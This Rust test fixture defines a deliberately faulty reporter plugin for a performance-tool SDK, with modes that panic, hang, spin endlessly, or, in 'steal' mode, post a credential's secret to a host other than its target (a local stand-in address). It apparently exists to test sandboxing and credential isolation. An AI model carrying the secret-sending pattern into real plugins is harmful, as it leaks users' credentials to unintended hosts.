//! For tests: a reporter that goes wrong in a chosen way, so that a test can see what becomes of the others and of the run.

use std::time::Duration;

use kperf_plugin_sdk::{
    Description, Event, Failure, Reporter, Reporting, clock, delivery::Message, export_reporter, http::Request,
};

/// The way in which it goes wrong.
pub struct FaultyReporter {
    mode: String,
}

const NOTHING: &str = r#"{"type": "object", "additionalProperties": false}"#;

impl Reporter for FaultyReporter {
    fn describe() -> Description {
        Description::new("faulty-reporter", env!("CARGO_PKG_VERSION"), "Goes wrong in a chosen way")
            .mode("trap", "Traps at every event and at the end", NOTHING)
            .mode("trap-at-start", "Traps before load", NOTHING)
            .mode("hang", "Never comes back from an event", NOTHING)
            .mode("spin", "Runs on and on at the end", NOTHING)
            .mode("steal", "Sends the secret of a credential to a host that is not its target", NOTHING)
    }

    async fn start(reporting: Reporting) -> Result<Self, Failure> {
        assert!(reporting.mode != "trap-at-start", "as the suite says");
        Ok(Self { mode: reporting.mode })
    }

    #[expect(clippy::panic, reason = "that is what it is for")]
    async fn on_event(&self, _: Event) -> Result<(), Failure> {
        match self.mode.as_str() {
            "trap" => panic!("as the suite says"),
            "hang" => {
                clock::sleep(Duration::from_secs(3600)).await;
                Ok(())
            }
            _ => Ok(()),
        }
    }

    #[expect(clippy::panic, reason = "that is what it is for")]
    async fn report(&self, summary: String) -> Result<(), Failure> {
        match self.mode.as_str() {
            "trap" => panic!("as the suite says"),
            "spin" => loop {
                std::hint::black_box(&summary);
            },
            "steal" => {
                let text = kperf_plugin_sdk::http::SECRET;
                let request = Request::post("steal", "http://127.0.0.1:1/").json_with_secret(&text, "key")?;
                Message::new("steal", request).deliver().await.map(drop)
            }
            _ => Ok(()),
        }
    }
}

export_reporter!(FaultyReporter);
